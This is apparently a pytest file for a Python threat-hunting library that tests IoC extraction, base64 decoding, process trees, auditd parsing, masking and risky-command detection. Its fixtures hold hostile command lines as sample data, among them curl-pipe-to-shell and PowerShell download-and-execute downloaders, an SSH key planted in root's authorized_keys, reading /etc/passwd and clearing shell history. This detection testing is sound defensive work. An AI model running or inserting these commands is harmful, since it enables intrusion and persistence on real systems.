"""The security transforms through the Python package: DataFrames in and out.

The rules themselves are tested next to the Rust code; these tests check what the
Python face adds: column selection and conversion, index labels in ``SourceIndex`` and
``src_index``, MSTICPy's frame shape for process trees, the ``hb_tree`` accessor,
warnings, the masking key, and errors that say what to do.
"""

import base64
import gzip

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

import huntbook
from huntbook import _huntbook, _tables
from huntbook._tables import to_batch, to_frame


def ps_encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16le")).decode()


# --- IoC extraction ---------------------------------------------------------------


def test_extract_iocs_reports_index_labels_and_msticpy_columns():
    events = pd.DataFrame(
        {
            "CommandLine": [
                "curl hxxp://evil-site[.]com/payload.sh | sh",
                None,
                "postfix: from=alice@example.com to=bob@example.org",
            ],
            "Host": ["web01", "web02", "mail01"],
        },
        index=["a", "b", "c"],
    )
    iocs = huntbook.extract_iocs(events, "CommandLine", refang=True)
    assert list(iocs.columns) == ["IoCType", "Observable", "SourceIndex", "Input"]
    found = set(zip(iocs["IoCType"], iocs["Observable"], iocs["SourceIndex"]))
    assert ("url", "http://evil-site.com/payload.sh", "a") in found
    assert ("dns", "evil-site.com", "a") in found
    assert ("email", "alice@example.com", "c") in found
    assert ("dns", "example.com", "c") in found
    # The key of a key=value pair is not part of the email.
    assert not any(o.startswith("from=") for o in iocs["Observable"])
    assert "b" not in set(iocs["SourceIndex"])
    # Input is the scanned cell itself, of the column it was found in, as in MSTICPy.
    both = huntbook.extract_iocs(events, ["Host", "CommandLine"])
    for label, cell in zip(both["SourceIndex"], both["Input"]):
        assert cell is events.at[label, "CommandLine"]
    assert both["Input"].dtype == object
    hosts = events.assign(Host=["evil.com", "10.0.0.1", None])
    cells = huntbook.extract_iocs(hosts, ["Host", "CommandLine"])[["SourceIndex", "Input"]]
    assert cells.iloc[0].tolist() == ["a", "evil.com"]
    assert cells.iloc[1].tolist()[1].startswith("curl")


def test_extract_iocs_type_filter_aliases_and_custom_types():
    sha = "a" * 64
    events = pd.DataFrame({"msg": [f"hash {sha} from 10.1.2.3 ticket INC-4711"]})
    only = huntbook.extract_iocs(events, ["msg"], ioc_types=["sha256", "ipv4"])
    assert sorted(only["IoCType"]) == ["ipv4", "sha256_hash"]
    custom = huntbook.extract_iocs(
        events, "msg", ioc_types=["ticket"], custom_types=[("ticket", r"INC-\d+", 0)]
    )
    assert custom[["IoCType", "Observable"]].values.tolist() == [["ticket", "INC-4711"]]
    with pytest.raises(ValueError, match="unknown"):
        huntbook.extract_iocs(events, "msg", ioc_types=["not_a_type"])


def test_extract_iocs_scans_non_text_cells_as_text_and_names_missing_columns():
    events = pd.DataFrame({"mixed": ["8.8.8.8", 42, None, 3.5]}, index=[7, 8, 9, 10])
    iocs = huntbook.extract_iocs(events, "mixed")
    assert iocs[["IoCType", "Observable", "SourceIndex"]].values.tolist() == [["ipv4", "8.8.8.8", 7]]
    with pytest.raises(KeyError, match="'CommandLine' is not in the DataFrame; the columns are: mixed"):
        huntbook.extract_iocs(events, "CommandLine")
    empty = huntbook.extract_iocs(events.iloc[:0], "mixed")
    assert len(empty) == 0 and list(empty.columns) == ["IoCType", "Observable", "SourceIndex", "Input"]


def test_single_observables():
    assert huntbook.ioc_type("hxxps://evil-site[.]com/a") == "url"
    assert huntbook.ioc_type("2001:db8::1") == "ipv6"
    assert huntbook.ioc_type("just words") is None
    assert huntbook.validate_ioc("10.0.0.1", "ipv4")
    assert not huntbook.validate_ioc("10.0.0.300", "ipv4")
    assert not huntbook.validate_ioc("example.notatld", "dns")
    assert huntbook.file_hash_type("d41d8cd98f00b204e9800998ecf8427e") == "md5_hash"
    assert huntbook.file_hash_type("da39a3ee5e6b4b0d3255bfef95601890afd80709") == "sha1_hash"
    assert huntbook.file_hash_type("xyz") is None
    with pytest.raises(ValueError, match="unknown IoC type 'ipv5'; use one of ipv4"):
        huntbook.validate_ioc("1.2.3.4", "ipv5")


# --- base64 -------------------------------------------------------------------------


def test_unpack_base64_decodes_encoded_powershell_and_gzip():
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/stage2.ps1')"
    gz = base64.b64encode(gzip.compress(b"wget http://198.51.100.9/x.elf -O /tmp/x")).decode()
    events = pd.DataFrame(
        {"CommandLine": [f"powershell.exe -nop -EncodedCommand {ps_encoded(script)}", "dir", f"echo {gz}"]},
        index=[100, 101, 102],
    )
    decoded = huntbook.unpack_base64(events, "CommandLine")
    assert list(decoded.columns) == [
        "reference", "original_string", "file_name", "file_type", "input_bytes",
        "decoded_string", "encoding_type", "file_hashes", "md5", "sha1", "sha256",
        "printable_bytes", "src_index", "CommandLine", "full_decoded_string",
    ]  # fmt: skip
    ps = decoded[decoded["src_index"] == 100]
    assert ps["decoded_string"].iloc[0] == script
    assert "<decoded" in ps["full_decoded_string"].iloc[0]
    gz_rows = decoded[decoded["src_index"] == 102]
    assert "gz" in set(gz_rows["file_type"])  # MSTICPy's name
    assert any("198.51.100.9" in (s or "") for s in gz_rows["decoded_string"])
    # Decode then extract: the indicator hidden in the payload is found.
    iocs = huntbook.extract_iocs(decoded, "decoded_string")
    assert "203.0.113.7" in set(iocs["Observable"])


def test_unpack_base64_msticpy_mode_and_utf16_switch():
    events = pd.DataFrame({"c": [f"-enc {ps_encoded('Get-Process | Out-File C:/temp/p.txt')}"]})
    default = huntbook.unpack_base64(events, "c")
    assert default["decoded_string"].iloc[0] == "Get-Process | Out-File C:/temp/p.txt"
    # MSTICPy leaves UTF-16LE as UTF-8 with NULs between the letters.
    compat = huntbook.unpack_base64(events, "c", msticpy_compatible=True)
    assert compat["decoded_string"].iloc[0].startswith("G\x00e\x00t")
    forced_off = huntbook.unpack_base64(events, "c", utf16=False)
    assert "\x00" in forced_off["decoded_string"].iloc[0]


def test_unpack_base64_stops_a_bomb_with_an_error_row():
    bomb = base64.b64encode(gzip.compress(b"\0" * (64 << 20))).decode()
    decoded = huntbook.unpack_base64(pd.DataFrame({"c": [bomb]}), "c")
    assert "error" in set(decoded["encoding_type"])


# --- process trees --------------------------------------------------------------------


@pytest.fixture(scope="module")
def events() -> pd.DataFrame:
    return to_frame(_huntbook.generate_process_events(2000, hosts=3, seed=7))


@pytest.fixture(scope="module")
def tree(events) -> pd.DataFrame:
    return huntbook.build_process_tree(events)


def test_process_tree_has_msticpys_shape(tree, events):
    assert tree.index.name == "proc_key"
    for column in ["parent_key", "path", "IsRoot", "IsLeaf", "IsBranch", "source_index", *events.columns]:
        assert column in tree.columns, column
    assert tree["path"].is_monotonic_increasing
    summary = tree.hb_tree.summary()
    assert list(summary) == [
        "Processes", "RootProcesses", "LeafProcesses", "BranchProcesses",
        "IsolatedProcesses", "LargestTreeDepth",
    ]  # fmt: skip
    assert summary["Processes"] == len(tree)
    assert summary["RootProcesses"] == int(tree["IsRoot"].sum())
    assert summary["LeafProcesses"] == int(tree["IsLeaf"].sum())
    # Every non-root's parent_key is a proc_key of the tree.
    non_roots = tree[~tree["IsRoot"]]
    assert non_roots["parent_key"].isin(tree.index).all()


def test_navigation_agrees_with_parent_keys(tree):
    nav = tree.hb_tree
    branch_key = tree[tree["IsBranch"]].index[0]
    kids = nav.children(branch_key, include_source=False)
    assert len(kids) > 0 and (kids["parent_key"] == branch_key).all()
    with_source = nav.children(branch_key)
    assert with_source.index[0] == branch_key and len(with_source) == len(kids) + 1
    kid = kids.iloc[0]
    assert nav.parent(kid).name == branch_key
    chain = nav.ancestors(kid)
    assert chain.index[-1] == kid.name and bool(chain.iloc[0]["IsRoot"])
    for upper, lower in zip(chain.index[:-1], chain.index[1:]):
        assert tree.loc[[lower], "parent_key"].iloc[0] == upper
    root = nav.root_of(kid)
    assert root.name == chain.index[0]
    below = nav.descendants(root.name, include_source=False)
    assert kid.name in below.index and root.name not in below.index
    one_level = nav.descendants(root.name, include_source=False, max_levels=1)
    assert (one_level["parent_key"] == root.name).all()
    sibs = nav.siblings(kid)
    assert (sibs["parent_key"] == branch_key).all() and kid.name in sibs.index
    assert len(nav.roots()) == int(tree["IsRoot"].sum())
    # Positions and name|pid queries address the same process as its key.
    assert nav.parent(tree.index.get_loc(kid.name)).name == branch_key
    name = kid["NewProcessName"].rsplit("\\", 1)[-1]
    assert len(nav.children(f"{name}|{kid['NewProcessId']}|{kid.name.rsplit('|', 1)[1]}")) >= 1


def test_text_rendering_and_errors(tree):
    nav = tree.hb_tree
    leaf_key = tree[tree["IsLeaf"] & ~tree["IsRoot"]].index[0]
    text = nav.to_text(leaf_key)
    assert text.startswith("+") and "+-- " in text and "Process:" in text
    assert len(nav.to_text()) > len(text)
    with pytest.raises(KeyError, match="no process with key 'nope.exe"):
        nav.children("nope.exe|0x1")
    with pytest.raises(KeyError):
        nav.children(10**9)
    with pytest.raises(AttributeError, match="huntbook.build_process_tree"):
        tree.head().hb_tree.roots()


def test_text_columns_the_builder_does_not_read_stay_python_objects(events):
    # Repeat some rows whole, and some with only the command line changed: the first are
    # dropped as MSTICPy drops duplicates, the second are events of their own, though
    # the builder converts only the columns it links processes by.
    picked = events[events["EventID"] == 4688].iloc[:40]
    changed = picked.iloc[20:].assign(CommandLine=lambda d: d["CommandLine"] + " /changed")
    data = pd.concat([events, picked.iloc[:20], changed], ignore_index=True)
    data["CommandLine"] = data["CommandLine"].astype(object)
    tree = huntbook.build_process_tree(data)
    from_arrow = huntbook.build_process_tree(pa.Table.from_pandas(data, preserve_index=False))
    assert tree["CommandLine"].dtype == object and tree["NewProcessName"].dtype != object
    pd.testing.assert_frame_equal(tree, from_arrow, check_dtype=False)
    # Inferred parents have no command line, as in MSTICPy's frame.
    inferred = tree["TimeGenerated"].dt.year == 1970
    assert inferred.any() and tree.loc[inferred, "CommandLine"].isna().all()
    # The text rendering shows the command lines kept in pandas.
    leaf = tree[tree["IsLeaf"] & ~tree["IsRoot"]].iloc[0]
    assert f"Cmdline: {leaf['CommandLine'][:20]}" in tree.hb_tree.to_text(leaf.name, wrap=500)


def test_process_tree_schemas(events):
    by_name = huntbook.build_process_tree(events, schema="windows")
    by_map = huntbook.build_process_tree(
        events,
        schema={
            "process_name": "NewProcessName",
            "process_id": "NewProcessId",
            "parent_id": "ProcessId",
            "time_stamp": "TimeGenerated",
            "host_name_column": "Computer",
            "parent_name": "ParentProcessName",
            "event_id_column": "EventID",
            "event_id_identifier": "4688",
        },
    )
    assert by_name.hb_tree.summary() == by_map.hb_tree.summary()
    with pytest.raises(ValueError, match="unknown process schema 'sysmonn'"):
        huntbook.build_process_tree(events, schema="sysmonn")
    with pytest.raises(ValueError, match="no process schema matches"):
        huntbook.build_process_tree(pd.DataFrame({"a": [1], "b": ["x"]}))


def test_process_tree_from_parquet_round_trip(tmp_path, events):
    path = tmp_path / "procs.parquet"
    events.to_parquet(path)
    tree = huntbook.build_process_tree(pd.read_parquet(path), show_summary=False)
    assert tree.hb_tree.summary() == huntbook.build_process_tree(events).hb_tree.summary()
    import pyarrow.parquet as pq

    from_arrow = huntbook.build_process_tree(pq.read_table(path))
    # The same values; a DataFrame's text columns the builder does not read keep their
    # object dtype, where Arrow text comes back as pandas' str dtype.
    kept = [c for c in tree.columns if tree[c].dtype == object]
    assert "CommandLine" in kept and "NewProcessName" not in kept
    pd.testing.assert_frame_equal(from_arrow, tree, check_dtype=False)
    empty = pq.read_table(path).slice(0, 0)
    assert len(huntbook.build_process_tree(empty, schema="windows")) == 0


# --- auditd -----------------------------------------------------------------------------

AUDIT_LOG = """\
type=SYSCALL msg=audit(1558439254.480:21713): arch=c000003e syscall=59 success=yes exit=0 a0=5581f0e1a6d0 a1=5581f0e1a730 a2=5581f0e19e70 a3=0 items=2 ppid=1234 pid=1240 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=5 comm="ls" exe="/usr/bin/ls" key="exec"
type=EXECVE msg=audit(1558439254.480:21713): argc=3 a0="ls" a1="-la" a2=2F686F6D652F6120622F63
type=CWD msg=audit(1558439254.480:21713): cwd="/root"
type=PROCTITLE msg=audit(1558439254.480:21713): proctitle=6C73002D6C61
this line is garbage
type=LOGIN msg=audit(1558439261.000:21715): pid=2100 uid=0 old-auid=4294967295 auid=1000 tty=(none) old-ses=4294967295 ses=7 res=1
"""


def test_parse_auditd_file_warns_with_line_numbers(tmp_path):
    path = tmp_path / "audit.log"
    path.write_text(AUDIT_LOG)
    with pytest.warns(huntbook.AuditdWarning, match="line 5"):
        events = huntbook.parse_auditd(path)
    assert set(events["EventType"]) == {"SYSCALL_EXECVE", "LOGIN"}
    execve = events[events["EventType"] == "SYSCALL_EXECVE"].iloc[0]
    assert execve["cmdline"] == "ls -la /home/a b/c"
    assert execve["exe"] == "/usr/bin/ls"
    with pytest.warns(huntbook.AuditdWarning):
        only = huntbook.parse_auditd(tmp_path / "audit.log", event_type="LOGIN")
    assert list(only["EventType"]) == ["LOGIN"]
    with pytest.raises(ValueError, match="missing.log"):
        huntbook.parse_auditd(tmp_path / "missing.log")


def test_parse_auditd_sentinel_rows():
    lines = AUDIT_LOG.splitlines()
    rows = pd.DataFrame({"Computer": ["lx1"], "AuditdMessage": ["\n".join(lines[:4])]})
    events = huntbook.parse_auditd(rows)
    assert list(events["EventType"]) == ["SYSCALL_EXECVE"]
    assert events["Computer"].iloc[0] == "lx1"


# --- masking -----------------------------------------------------------------------------


def test_mask_is_consistent_per_key_and_needs_a_key(monkeypatch):
    data = pd.DataFrame(
        {
            "UserPrincipalName": ["alice@contoso.com", "bob@contoso.com", "alice@contoso.com"],
            "IPAddress": ["10.1.2.3", "203.0.113.9", "10.1.2.3"],
            "Count": [1, 2, 3],
        },
        index=[5, 6, 7],
    )
    monkeypatch.delenv(huntbook.transforms.MASK_KEY_VARIABLE, raising=False)
    with pytest.raises(ValueError, match="set the HUNTBOOK_MASK_KEY environment variable"):
        huntbook.mask(data)
    monkeypatch.setenv("HUNTBOOK_MASK_KEY", "first key")
    first = huntbook.mask(data)
    again = huntbook.mask(data)
    pd.testing.assert_frame_equal(first, again)
    assert list(first.index) == [5, 6, 7]
    assert first["UserPrincipalName"][5] == first["UserPrincipalName"][7]
    assert first["UserPrincipalName"][5] != "alice@contoso.com"
    assert first["IPAddress"][5].startswith("10.")  # private prefix kept
    assert list(first["Count"]) == [1, 2, 3]
    monkeypatch.setenv("HUNTBOOK_MASK_KEY", "second key")
    assert huntbook.mask(data)["UserPrincipalName"][5] != first["UserPrincipalName"][5]
    only = huntbook.mask(data, {"Count": "str"}, use_default=False)
    assert list(only["UserPrincipalName"]) == list(data["UserPrincipalName"])
    with pytest.raises(ValueError, match="'UserPrincipleName' is in the column map but not in the table"):
        huntbook.mask(data, {"UserPrincipleName": "acct"})


# --- the Arrow bridge -------------------------------------------------------------------


def test_bridge_rejects_non_tables_and_keeps_types():
    with pytest.raises(TypeError, match="expected an Arrow record batch"):
        _huntbook.extract_iocs({"a": ["1.2.3.4"]}, ["a"])
    batch = pa.record_batch({"t": pa.array(["8.8.8.8", None], type=pa.large_string())})
    out = pa.record_batch(_huntbook.extract_iocs(batch, ["t"]))
    assert out.num_rows == 1 and out.schema.field("SourceIndex").type == pa.int64()


def test_object_text_columns_read_as_pyarrow_reads_them():
    cells = ["plain", None, float("nan"), "héllo ✓ 日本", "", "C:\\Windows\\cmd.exe /c whoami"]
    frame = pd.DataFrame({"text": cells, "n": range(len(cells))})
    # A column of a two-dimensional object block, not yet in memory order.
    frame["other"] = frame["text"]
    batch = to_batch(frame)
    for name in ("text", "other"):
        assert batch.column(name).equals(pa.array(frame[name], from_pandas=True))
    assert batch.column("n").type == pa.int64()
    # Anything but text and missing cells is left to pyarrow and its rules.
    mixed = pd.Series(["a", 1], dtype=object)
    assert _tables._object_text(mixed) is None
    assert _tables._object_text(pd.Series([None, None], dtype=object)) is None
    assert _tables._object_text(pd.Series(["a", "\ud800"], dtype=object)) is None
    assert _tables._object_text(pd.Series([], dtype=object)) is None
    # Cells of a strided view are read in order.
    evens = pd.Series(cells, dtype=object).to_numpy()[::2]
    assert _tables._object_text(pd.Series(evens)).to_pylist() == ["plain", None, ""]
    with pytest.raises(ValueError, match="one-dimensional"):
        _huntbook.text_cells(np.array([["a"]], dtype=object))


def test_repeated_text_objects_read_as_a_dictionary():
    names = ["cmd.exe", "héllo ✓", None, "", float("nan")]
    # The same few objects over and over, as pandas holds a column read from Parquet.
    cells = pd.Series([names[i % 5] for i in range(10_000)], dtype=object)
    text = _tables._object_text(cells, dictionary=True)
    assert pa.types.is_dictionary(text.type) and len(text.dictionary) == 3
    assert text.cast(pa.string()).equals(pa.array(cells, from_pandas=True))
    # Equal texts in distinct objects are distinct entries, but read the same.
    copies = pd.Series(["".join(["cmd", ".exe"]) for _ in range(8)] + ["x"] * 8, dtype=object)
    assert _tables._object_text(copies, dictionary=True).to_pylist() == list(copies)
    # Mostly distinct objects are read plainly; anything but text is left to pyarrow.
    distinct = pd.Series([f"row {i}" for i in range(10_000)], dtype=object)
    assert _tables._object_text(distinct, dictionary=True).type == pa.string()
    assert _tables._object_text(pd.Series(["a", 1], dtype=object), dictionary=True) is None
    assert _tables._object_text(pd.Series([None, None], dtype=object), dictionary=True) is None


# --- command-line rules -----------------------------------------------------------------


def test_risky_commands_and_command_speed():
    times = pd.date_range("2024-05-01 10:00:00", periods=8, freq="200ms", tz="UTC")
    encoded = ps_encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')")
    cmds = pd.DataFrame(
        {
            "TimeGenerated": times,
            "cmdline": [
                "curl -s http://203.0.113.9/install.sh | bash",
                "ls -la",
                f"powershell -enc {encoded}",
                "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys",
                "id",
                "uname -a",
                "cat /etc/passwd",
                "history -c",
            ],
            "ses": ["7"] * 8,
        },
        index=range(100, 108),
    )
    hits = huntbook.risky_commands(cmds, "cmdline")
    assert {"SourceIndex", "TimeGenerated", "Command", "RuleId", "RuleName", "Severity", "MatchedText", "MatchedIn"} <= set(hits.columns)
    assert {100, 102, 103, 107} <= set(hits["SourceIndex"])
    assert 101 not in set(hits["SourceIndex"])
    assert "decoded" in set(hits[hits["SourceIndex"] == 102]["MatchedIn"])
    bursts = huntbook.cmd_speed(cmds, "cmdline", session_column="ses", time_window=1.0, events=3)
    assert len(bursts) > 0
    assert all(set(ix) <= set(cmds.index) for ix in bursts["SourceIndexes"])
    with pytest.raises(ValueError, match="Command"):
        huntbook.risky_commands(cmds)
